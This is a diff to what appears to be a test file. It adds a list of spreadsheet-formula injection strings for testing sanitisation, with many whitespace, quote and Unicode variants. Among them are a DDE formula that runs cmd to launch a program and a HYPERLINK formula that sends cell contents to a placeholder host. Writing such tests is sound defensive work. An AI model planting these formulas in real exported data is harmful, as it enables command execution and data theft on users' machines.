@@ -12,3 +12,32 @@ DECEPTIVE = [
     "\U000e0041",
     "\udcff",
 ]
+
+# A spreadsheet computes these, or what is left of them without white space.
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-2+3",
+    "@SUM(A1)",
+    '=HYPERLINK("http://example.org?"&A2)',
+    "=cmd|' /C calc'!A0",
+    " =1",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\tplain",
+    "\rplain",
+    '"=1',
+    "'=1",
+    "''=1",
+    "\ufeff=1",
+    "\u200b=1",
+    "\u202e=1",
+    "\xa0\u3000=1",
+    "\x00=1",
+    "\uff1d1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff201",
+    "\u22121",
+]
